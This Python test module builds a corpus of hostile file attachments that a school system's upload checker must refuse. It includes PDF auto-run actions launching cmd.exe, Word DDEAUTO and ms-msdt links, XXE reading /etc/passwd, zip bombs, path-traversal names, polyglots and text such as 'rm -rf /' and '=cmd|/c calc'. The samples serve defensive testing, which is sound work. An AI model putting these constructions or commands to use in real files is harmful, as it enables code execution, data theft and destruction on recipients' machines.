"""Files that must be refused, by family: each is one trick, in several disguises."""

from __future__ import annotations

import struct
import zipfile
from collections.abc import Iterator
from io import BytesIO
from random import Random

from schoolslink.checks.attachments import making as m
from schoolslink.checks.attachments.sample import Sample, bad
from schoolslink.referrals.rules.files import MOST_BYTES, Reason

R = Reason


def hostile(seed: int) -> list[Sample]:
    """Return the whole corpus of files to refuse, the same for the same seed."""
    random = Random(seed)  # noqa: S311 (invented files)
    families = (
        _names, _disguised, _pdf_actions, _pdf_packed, _pdf_broken, _pictures, _word, _odt,
        _archives, _bombs, _texts, _sizes, _polyglots, _cut_short,
    )  # fmt: skip
    return [sample for family in families for sample in family(random)]


def _names(random: Random) -> Iterator[Sample]:
    plain = m.pdf(text=m.words(random, 4))
    tricks = {
        "up": "../../etc/passwd.pdf", "up windows": "..\\..\\a.pdf", "absolute": "/etc/a.pdf",
        "drive": "C:letter.pdf", "stream": "letter.pdf:hidden", "null": "letter.pdf\0.exe",
        "override": "letter\u202efdp.exe", "isolate": "a\u2066b.pdf", "unseen": "a\u200bb.pdf",
        "line": "a\nb.pdf", "return": "a\rSet-Cookie: b.pdf", "tab": "a\tb.pdf", "star": "*.pdf",
        "pipe": "a|b.pdf", "quote": 'a"b.pdf', "less": "<script>.pdf", "device": "con.pdf",
        "device upper": "NUL.pdf", "device number": "com1.pdf", "dot at end": "letter.pdf.",
        "blank at end": "letter.pdf ", "dot first": ".htaccess", "empty": "", "long": "a" * 200 + ".pdf",
        "dots": "a..pdf", "question": "a?.pdf", "private": "a\ue000.pdf", "escape": "a\x1b[2J.pdf",
        "surrogate": "a\ud800.pdf", "line separator": "a\u2028b.pdf",
    }  # fmt: skip
    for what, name in tricks.items():
        yield bad(f"name: {what}", name, plain, R.NAME)


def _disguised(random: Random) -> Iterator[Sample]:
    """What it is called is not what it is."""
    pdf, jpeg, png = m.pdf(), m.picture("JPEG"), m.picture("PNG")
    docx, odt, text = m.docx(), m.odt(), m.words(random).encode()
    contents = {"pdf": pdf, "jpg": jpeg, "png": png, "docx": docx, "odt": odt, "txt": text}
    for is_, content in contents.items():
        for said in contents:
            if said != is_:
                yield bad(f"{is_} called {said}", f"a.{said}", content, R.ENDING)
    for ending in ("exe", "html", "svg", "js", "pdf.exe", "php", "lnk", "heic", ""):
        yield bad(f"pdf called {ending}", f"a.{ending}" if ending else "a", pdf, R.ENDING)
    others = {
        "program": b"MZ\x90\0" + b"\0" * 200, "elf": b"\x7fELF" + b"\0" * 60,
        "old word": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
        "rtf": b"{\\rtf1 {\\object}}", "gif": m.picture("GIF"), "bmp": m.picture("BMP"),
        "tiff": m.picture("TIFF"), "webp": b"RIFF\0\0\0\0WEBPVP8 ", "rar": b"Rar!\x1a\x07\0",
        "7z": b"7z\xbc\xaf\x27\x1c", "gzip": b"\x1f\x8b\x08\0" + b"\0" * 20, "bzip": b"BZh91AY",
        "xz": b"\xfd7zXZ\0", "help": b"ITSF\x03\0", "postscript": b"%!PS-Adobe-3.0\n",
        "heic": b"\0\0\0\x18ftypheic\0\0\0\0", "mp4": b"\0\0\0\x18ftypmp42\0\0\0\0",
        "icon": b"\0\0\1\0\1\0", "java": b"\xca\xfe\xba\xbe\0\0\0\x34", "ogg": b"OggS\0\2",
        "font": b"wOFF\0\1\0\0", "tar": b"a.txt" + b"\0" * 252 + b"ustar\0",
    }  # fmt: skip
    for what, content in others.items():
        ending = random.choice(["pdf", "jpg", "txt", "docx"])
        yield bad(f"{what} called {ending}", f"a.{ending}", content, R.TYPE)


ACTIONS = {
    "javascript": (b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>", R.ACTIVE),
    "javascript escaped": (b"<< /S /J#61vaScript /J#53 (1) >>", R.ACTIVE),
    "launch": (b"<< /S /Launch /F (cmd.exe) >>", R.ACTIVE),
    "launch escaped": (b"<< /S /L#61unch /F (cmd.exe) >>", R.ACTIVE),
    "submit": (b"<< /S /SubmitForm /F (http://e.example/) >>", R.ACTIVE),
    "import": (b"<< /S /ImportData /F (a.fdf) >>", R.ACTIVE),
    "rendition": (b"<< /S /Rendition /OP 0 >>", R.ACTIVE),
    "sound": (b"<< /S /Sound >>", R.ACTIVE),
    "movie": (b"<< /S /Movie >>", R.ACTIVE),
    "remote": (b"<< /S /GoToR /F (\\\\\\\\evil\\\\share) /D [0 /Fit] >>", R.FETCHES),
    "embedded": (b"<< /S /GoToE /F (a.pdf) >>", R.FETCHES),
    "script address": (b"<< /S /URI /URI (javascript:alert\\(1\\)) >>", R.FETCHES),
    "file address": (b"<< /S /URI /URI (file:///c:/windows) >>", R.FETCHES),
    "data address": (b"<< /S /URI /URI (data:text/html,x) >>", R.FETCHES),
}  # fmt: skip


def _pdf_actions(random: Random) -> Iterator[Sample]:
    """Each action at each place where a reader would take it up."""
    places = {
        "on opening": lambda a: m.pdf(catalog=b"/OpenAction " + a),
        "on opening, apart": lambda a: m.pdf({6: a}, catalog=b"/OpenAction 6 0 R"),
        "on a link": lambda a: m.pdf(
            {6: b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A " + a + b" >>"},
            page=b"/Annots [6 0 R]",
        ),
        "after another": lambda a: m.pdf(
            catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next " + a + b" >>"
        ),
    }
    for where, make in places.items():
        for what, (action, reason) in ACTIONS.items():
            yield bad(f"pdf {what} {where}", "a.pdf", make(action), reason)
    yield bad("pdf more actions", "a.pdf", m.pdf(catalog=b"/AA << /WC 6 0 R >>"), R.ACTIVE)
    yield bad("pdf form", "a.pdf", m.pdf(catalog=b"/AcroForm << /XFA [(a) 6 0 R] >>"), R.ACTIVE)
    names = b"/Names << /JavaScript << /Names [(a) 6 0 R] >> >>"
    yield bad("pdf named script", "a.pdf", m.pdf(catalog=names), R.ACTIVE)
    held = b"/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>"
    yield bad("pdf with a file", "a.pdf", m.pdf(catalog=held), R.HOLDS_FILES)
    yield bad("pdf portfolio", "a.pdf", m.pdf(catalog=b"/Collection << /View /T >>"), R.HOLDS_FILES)
    for kind, reason in (("RichMedia", R.ACTIVE), ("3D", R.ACTIVE), ("Screen", R.ACTIVE),
                         ("Movie", R.ACTIVE), ("Sound", R.ACTIVE),
                         ("FileAttachment", R.HOLDS_FILES)):  # fmt: skip
        note = f"<< /Type /Annot /Subtype /{kind} /Rect [0 0 9 9] >>".encode()
        yield bad(f"pdf {kind}", "a.pdf", m.pdf({6: note}, page=b"/Annots [6 0 R]"), reason)
    spec = {6: b"<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>", 7: m.stream(b"MZ")}
    yield bad("pdf file apart", "a.pdf", m.pdf(spec), R.HOLDS_FILES)
    away = {6: b"<< /Length 0 /F (http://e.example/a) >>\nstream\n\nendstream"}
    yield bad("pdf stream elsewhere", "a.pdf", m.pdf(away), R.FETCHES)


def _pdf_packed(random: Random) -> Iterator[Sample]:
    """The same actions inside packed objects, where no search of the bytes sees them."""
    for what, (action, reason) in ACTIONS.items():
        numbers = {8: action}
        yield bad(f"pdf packed {what}", "a.pdf", _with_packed(numbers), reason)


def _with_packed(held: dict[int, bytes]) -> bytes:
    """Return a PDF whose cross-reference is a stream, so that packed objects are known."""
    out, places = BytesIO(), {}
    parts = {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 8 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
    } | m.packed_objects(held, 6)
    out.write(b"%PDF-1.7\n")
    for number, body in parts.items():
        places[number] = out.tell()
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    at, rows = out.tell(), b""
    places[9] = at
    for number in range(10):
        if number in held:
            rows += struct.pack("!BHB", 2, 6, list(held).index(number))
        else:
            rows += struct.pack("!BHB", 1 if number in places else 0, places.get(number, 0), 0)
    more = b"/Type /XRef /Size 10 /W [1 2 1] /Root 1 0 R "
    out.write(b"9 0 obj\n" + m.stream(rows, more) + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % at)
    return out.getvalue()


def _pdf_broken(random: Random) -> Iterator[Sample]:
    plain = m.pdf()
    locked = m.pdf({6: b"<< /Filter /Standard /V 1 /R 2 /O (" + b"a" * 32 + b") /U (" + b"b" * 32
                   + b") /P -4 >>"}, trailer=b"/Encrypt 6 0 R /ID [(a) (b)]")  # fmt: skip
    yield bad("pdf locked", "a.pdf", locked, R.LOCKED)
    yield bad("pdf of no version", "a.pdf", plain.replace(b"%PDF-1.7", b"%PDF-9.9"), R.DAMAGED)
    yield bad("pdf alone", "a.pdf", b"%PDF-1.7\n%%EOF\n", R.DAMAGED)
    yield bad("pdf without pages", "a.pdf", m.pdf(pages=0), R.DAMAGED)
    yield bad("pdf without an end", "a.pdf", plain.replace(b"%%EOF", b""), R.DAMAGED)
    loop = {2: b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"}
    yield bad("pdf in a ring", "a.pdf", m.pdf(loop), R.DAMAGED, R.UNFOLDS)
    deep = {6: b"[" * 5000 + b"]" * 5000}
    yield bad("pdf far too deep", "a.pdf", m.pdf(deep), R.DAMAGED, R.UNFOLDS)
    for number in range(5):
        torn = bytearray(plain)
        for _ in range(200):
            torn[random.randrange(9, len(torn) - 8)] = random.randrange(256)
        yield bad(f"pdf torn {number}", "a.pdf", bytes(torn), *R)


def _pictures(random: Random) -> Iterator[Sample]:
    jpeg, png = m.picture("JPEG"), m.picture("PNG")
    for what, tail in {
        "zip": m.archive([("a.exe", b"MZ")]), "page": b"<script>1</script>", "php": b"<?php 1 ?>",
        "film": b"\0\0\0\x18ftypmp42", "nought": b"\0" * 64, "program": b"MZ" + b"\0" * 99,
    }.items():  # fmt: skip
        yield bad(f"jpeg and a {what}", "a.jpg", jpeg + tail, R.BEHIND)
        yield bad(f"png and a {what}", "a.png", png + tail, R.BEHIND)
    for wide, high in ((50_000, 50_000), (12_001, 10), (10, 12_001), (9_000, 9_000)):
        yield bad(
            f"png of {wide} by {high}", "a.png", m.png_of_size(wide, high), R.PIXELS, R.DAMAGED
        )
    large = bytearray(jpeg)
    at = large.index(b"\xff\xc0")
    large[at + 5 : at + 9] = struct.pack("!HH", 60_000, 60_000)
    yield bad("jpeg that says it is vast", "a.jpg", bytes(large), R.PIXELS)
    yield bad("png with few points", "a.png", m.png_of_size(500, 500), R.DAMAGED)
    moving = m.picture("PNG", save_all=True, append_images=[_other()])
    yield bad("png that moves", "a.png", moving, R.MOVES)
    wrong = bytearray(png)
    wrong[40] ^= 0xFF
    yield bad("png with a wrong sum", "a.png", bytes(wrong), R.DAMAGED)
    yield bad("png without an end", "a.png", png[:-12], R.DAMAGED)
    yield bad("jpeg without an end", "a.jpg", jpeg[:-2], R.DAMAGED)
    yield bad("jpeg of a head", "a.jpg", b"\xff\xd8\xff\xd9", R.DAMAGED)
    yield bad("jpeg of a page", "a.jpg", b"\xff\xd8\xff<html><script>1</script>", R.DAMAGED)
    yield bad("png of a page", "a.png", b"\x89PNG\r\n\x1a\n<svg onload=alert(1)>", R.DAMAGED)


def _other() -> object:
    from PIL import Image

    return Image.new("RGB", (64, 48), (9, 9, 9))


def _word(random: Random) -> Iterator[Sample]:
    macro = "application/vnd.ms-word.document.macroEnabled.main+xml"
    yield bad("word with macros", "a.docx", m.docx(main=macro), R.ACTIVE)
    for name, content, reason in (
        ("word/vbaProject.bin", b"\xd0\xcf", R.ACTIVE), ("word/vbaData.xml", b"<a/>", R.ACTIVE),
        ("word/activeX/activeX1.xml", b"<a/>", R.ACTIVE), ("word/run.exe", b"MZ", R.ACTIVE),
        ("word/a.js", b"1", R.ACTIVE), ("customUI/macro.xml", b"<a/>", R.ACTIVE),
        ("word/embeddings/oleObject1.bin", b"\xd0\xcf", R.ACTIVE),
        ("word/embeddings/a.xlsx", b"PK", R.HOLDS_FILES), ("word/a.pdf", b"%PDF", R.HOLDS_FILES),
        ("word/afchunk.html", b"<script>", R.HOLDS_FILES), ("a.zip", b"PK", R.HOLDS_FILES),
        ("word/media/image1.svg", b"<svg/>", R.HOLDS_FILES), ("hidden.txt", b"a", R.HOLDS_FILES),
        ("word/media/image1.emf", b"\1\0", R.HOLDS_FILES), ("word/afchunk.rtf", b"{", R.HOLDS_FILES),
        ("word/media/image1.png", b"<html>", R.HOLDS_FILES),
    ):  # fmt: skip
        yield bad(f"word with {name}", "a.docx", m.docx({name: content}), reason)
    for kind, target in (
        ("attachedTemplate", "http://e.example/t.dotm"), ("image", "http://e.example/i.png"),
        ("oleObject", "http://e.example/a.hta"), ("frame", "https://e.example/"),
        ("subDocument", "//e.example/share/a.docx"), ("hyperlink", "file:///c:/a.exe"),
        ("hyperlink", "javascript:alert(1)"), ("hyperlink", "ms-msdt:/id PCWDiagnostic"),
        ("hyperlink", "\\\\evil\\share"), ("hyperlink", "search-ms:query=a"),
    ):  # fmt: skip
        made = m.docx(rels=m.relation(kind, target))
        yield bad(f"word {kind} to {target}", "a.docx", made, R.FETCHES)
    inside = m.docx(rels=m.relation("image", "http://e.example/i.png", external=False))
    yield bad("word picture from elsewhere", "a.docx", inside, R.FETCHES)

    def field(said: str) -> str:
        return f"<w:p><w:r><w:instrText>{said}</w:instrText></w:r></w:p>"

    split = "".join(f"<w:r><w:instrText>{c}</w:instrText></w:r>" for c in "DDEAUTO")
    bodies = {
        "dde": (field("DDEAUTO c:\\\\windows\\\\cmd.exe"), R.ACTIVE),
        "dde in pieces": (f"<w:p>{split}</w:p>", R.ACTIVE),
        "dde simple": ('<w:p><w:fldSimple w:instr="DDE excel a"/></w:p>', R.ACTIVE),
        "button": (field("MACROBUTTON run now"), R.ACTIVE),
        "picture field": (field("INCLUDEPICTURE http://e.example/a"), R.FETCHES),
        "text field": (field("INCLUDETEXT \\\\\\\\evil\\\\a"), R.FETCHES),
        "chunk": ('<w:altChunk r:id="rId9"/>', R.HOLDS_FILES),
        "object": ("<w:p><w:r><w:object/></w:r></w:p>", R.HOLDS_FILES),
        "ole": ('<w:p><o:OLEObject Type="Link"/></w:p>', R.ACTIVE),
        "control": ('<w:p><w:control r:id="rId9"/></w:p>', R.ACTIVE),
    }
    for what, (body, reason) in bodies.items():
        yield bad(f"word with {what}", "a.docx", m.docx(body=body), reason)
    laughs = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bbb"><!ENTITY c "&b;&b;">]><a>&c;</a>'
    fetch = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
    for what, xml in (("laughs", laughs), ("fetch", fetch)):
        yield bad(f"word with {what}", "a.docx", m.docx({"word/styles.xml": xml}), R.UNFOLDS)
    yield bad("word of no xml", "a.docx", m.docx({"word/styles.xml": b"<a>"}), R.DAMAGED)
    sheet = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    yield bad("a sheet called word", "a.docx", m.docx(main=sheet), R.TYPE)


def _odt(random: Random) -> Iterator[Sample]:
    for name, content, reason in (
        ("Basic/Standard/Module1.xml", b"<a/>", R.ACTIVE), ("Scripts/python/a.py", b"1", R.ACTIVE),
        ("Object 1/content.xml", b"<a/>", R.HOLDS_FILES), ("a.exe", b"MZ", R.ACTIVE),
        ("Pictures/a.svg", b"<svg/>", R.HOLDS_FILES), ("inner.odt", b"PK", R.HOLDS_FILES),
        ("Pictures/a.png", b"MZ", R.HOLDS_FILES),
    ):  # fmt: skip
        yield bad(f"odt with {name}", "a.odt", m.odt({name: content}), reason)
    events = '<office:scripts><script:event-listener xlink:href="vnd.sun.star.script:a"/></office:scripts>'
    yield bad("odt that listens", "a.odt", m.odt(scripts=events), R.ACTIVE)
    bodies = {
        "picture": ('<draw:image xlink:href="http://e.example/a.png"/>', R.FETCHES),
        "section": ('<text:section-source xlink:href="file:///a.odt"/>', R.FETCHES),
        "macro link": ('<text:a xlink:href="vnd.sun.star.script:a">b</text:a>', R.ACTIVE),
        "script link": ('<text:a xlink:href="javascript:a">b</text:a>', R.ACTIVE),
        "share link": ('<text:a xlink:href="smb://evil/a">b</text:a>', R.FETCHES),
        "object": ('<draw:object xlink:href="./Object 1"/>', R.HOLDS_FILES),
        "ole": ("<draw:object-ole/>", R.HOLDS_FILES), "applet": ("<draw:applet/>", R.ACTIVE),
        "plugin": ("<draw:plugin/>", R.ACTIVE), "frame": ("<draw:floating-frame/>", R.HOLDS_FILES),
        "dde": ("<text:dde-connection/>", R.ACTIVE), "run": ("<text:execute-macro/>", R.ACTIVE),
    }  # fmt: skip
    for what, (body, reason) in bodies.items():
        yield bad(f"odt with {what}", "a.odt", m.odt(body=body), reason)
    locked = m.odt({"META-INF/manifest.xml": b"<manifest:encryption-data/>"})
    yield bad("odt locked", "a.odt", locked, R.LOCKED)
    sheet = m.odt(mimetype=b"application/vnd.oasis.opendocument.spreadsheet")
    yield bad("a sheet called odt", "a.odt", sheet, R.TYPE)


def _archives(random: Random) -> Iterator[Sample]:
    plain = m.docx()
    yield bad("plain zip", "a.docx", m.archive([("a.txt", b"a")]), R.TYPE)
    yield bad("something before", "a.docx", b"MZ\0\0" + plain, R.TYPE)
    yield bad("something behind", "a.docx", plain + b"<script>", R.BEHIND, R.DAMAGED)
    yield bad("a comment", "a.docx", m.docx(comment=b"<script>1</script>"), R.BEHIND)
    start = plain.index(b"PK\1\2")
    hidden = plain[:start] + b"X" * 300 + plain[start:]
    end = hidden.rindex(b"PK\5\6")
    moved = struct.pack("<L", start + 300)
    hidden = hidden[: end + 16] + moved + hidden[end + 20 :]
    yield bad("something between", "a.docx", hidden, R.BEHIND)
    locked = bytearray(plain)
    for mark, at in ((b"PK\1\2", 8), (b"PK\3\4", 6)):
        found = locked.find(mark)
        while found != -1:
            locked[found + at] |= 1
            found = locked.find(mark, found + 4)
    yield bad("locked zip", "a.docx", bytes(locked), R.LOCKED)
    for name in ("../../a.xml", "/etc/a.xml", "word\\..\\a.xml", "C:/a.xml", "word/../../a.xml"):
        yield bad(f"member {name}", "a.docx", m.docx({name: b"<a/>"}), R.DAMAGED)
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        link = zipfile.ZipInfo("word/link.xml")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        made.writestr(link, "/etc/passwd")
    yield bad("a link in it", "a.docx", out.getvalue(), R.DAMAGED)
    twice = m.archive([("[Content_Types].xml", b"<a/>"), ("[content_types].XML", b"<a/>")])
    yield bad("two of one name", "a.docx", twice, R.DAMAGED)
    lie = bytearray(plain)
    first = lie.index(b"PK\3\4")
    lie[first + 30 : first + 34] = b"evil"
    yield bad("two names of one", "a.docx", bytes(lie), R.DAMAGED)


def _bombs(random: Random) -> Iterator[Sample]:
    nought = b"<a>" + b" " * (30 * 1024 * 1024) + b"</a>"
    yield bad("word that unfolds", "a.docx", m.docx({"word/styles.xml": nought}), R.UNFOLDS)
    yield bad("odt that unfolds", "a.odt", m.odt({"styles.xml": nought}), R.UNFOLDS)
    much = {f"word/part{n}.xml": b"<a>" + b" " * (7 << 20) + b"</a>" for n in range(9)}
    yield bad("word of many that unfold", "a.docx", m.docx(much), R.UNFOLDS)
    many = {f"word/p{n}.xml": b"<a/>" for n in range(600)}
    yield bad("word of too many", "a.docx", m.docx(many), R.UNFOLDS)
    lie = bytearray(m.docx({"word/styles.xml": nought}))
    at = lie.rindex(b"word/styles.xml") - 46
    lie[at + 24 : at + 28] = struct.pack("<L", 10)
    yield bad("word that lies of its size", "a.docx", bytes(lie), R.UNFOLDS, R.DAMAGED)
    yield bad("pdf of too many pages", "a.pdf", m.pdf(pages=600), R.UNFOLDS)


def _texts(random: Random) -> Iterator[Sample]:
    said = m.words(random)
    for what, text in {
        "page": "<html><body>a</body></html>", "page later": said + "\n<script>alert(1)</script>",
        "svg": '<svg xmlns="a" onload="alert(1)"/>', "doctype": "<!DOCTYPE html>",
        "php": "<?php system('a'); ?>", "xml": '<?xml version="1.0"?><a/>', "asp": "<% eval %>",
        "shell": "#!/bin/sh\nrm -rf /", "batch": "@echo off\nformat", "frame": "<iframe src=a>",
        "script link": "javascript:alert(1)", "mail": "MIME-Version: 1.0\n\na",
        "include": "<!--#exec cmd='ls'-->", "entity": "a <!ENTITY b SYSTEM 'c'>",
        "formula": said + "\n=cmd|'/c calc'!A0", "sum": "@HYPERLINK(1)", "blank tag": "< script >",
    }.items():  # fmt: skip
        yield bad(f"text with {what}", "a.txt", text.encode(), R.ACTIVE)
    for what, content in {
        "nought": b"a\0b", "latin": "caf\xe9 ol\xe9".encode("latin-1"), "utf-16": "a".encode("utf-16"),
        "bytes": bytes(range(128, 256)), "escape": b"a\x1b[2Jb", "bell": b"a\x07b",
        "override": "a\u202eb".encode(), "isolate": "a\u2067b".encode(), "tag": "a\U000e0041b".encode(),
        "private": "a\ue000b".encode(), "cesu": b"a\xed\xa0\x80b", "overlong": b"a\xc0\xafb",
    }.items():  # fmt: skip
        yield bad(f"text with {what}", "a.txt", content, R.NOT_PLAIN)


def _sizes(random: Random) -> Iterator[Sample]:
    for ending in ("pdf", "jpg", "png", "docx", "odt", "txt"):
        yield bad(f"empty {ending}", f"a.{ending}", b"", R.EMPTY)
    yield bad("blank text", "a.txt", b" \n\t ", R.EMPTY)
    for ending, start in (("pdf", b"%PDF-1.7\n"), ("txt", b"a"), ("jpg", b"\xff\xd8\xff")):
        yield bad(f"large {ending}", f"a.{ending}", start + b" " * MOST_BYTES, R.TOO_LARGE)


def _polyglots(random: Random) -> Iterator[Sample]:
    """Two files in one: what one reader takes for a picture, another takes for something else."""
    pdf, docx, jpeg = m.pdf(), m.docx(), m.picture("JPEG")
    yield bad("pdf and zip", "a.pdf", pdf + docx, R.BEHIND)
    yield bad("zip and pdf", "a.docx", docx + pdf, R.BEHIND, R.DAMAGED)
    yield bad("picture and pdf", "a.jpg", jpeg + pdf, R.BEHIND)
    yield bad("page and pdf", "a.pdf", b"<html>" + pdf, R.ACTIVE, R.NOT_PLAIN)
    yield bad("pdf and page", "a.pdf", pdf + b"<script>1</script>", R.BEHIND)
    yield bad("pdf behind words", "a.pdf", b"words\n" + pdf, R.NOT_PLAIN, R.ACTIVE)
    yield bad("program and zip", "a.docx", b"MZ" + b"\0" * 98 + docx, R.TYPE)
    yield bad("gif and script", "a.txt", b"GIF89a/*a*/=1;alert(1)", R.TYPE)


def _cut_short(random: Random) -> Iterator[Sample]:
    """Good files that break off somewhere."""
    whole = {"pdf": m.pdf(), "jpg": m.picture("JPEG"), "png": m.picture("PNG"), "docx": m.docx(),
             "odt": m.odt()}  # fmt: skip
    for ending, content in whole.items():
        for _ in range(3):
            end = random.randrange(len(content) // 3, len(content) - 8)
            yield bad(f"{ending} cut at {end}", f"a.{ending}", content[:end], R.DAMAGED, R.BEHIND)
